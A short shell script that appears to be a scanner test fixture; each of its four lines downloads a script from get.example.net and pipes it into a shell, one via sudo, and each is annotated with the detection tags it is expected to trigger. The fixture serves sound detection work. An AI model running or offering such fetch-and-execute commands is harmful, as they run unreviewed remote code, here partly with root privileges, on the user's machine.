#!/bin/sh
curl -fsSL https://get.example.net/i.sh | sudo -E bash - # FIND: shell.network shell.dynamic-code shell.privilege
wget -qO- https://get.example.net/i | sh # FIND: shell.network shell.dynamic-code
bash <(curl -s https://get.example.net/j) # FIND: shell.network shell.dynamic-code
sh -c "$(curl -s https://get.example.net/k)" # FIND: shell.network shell.dynamic-code
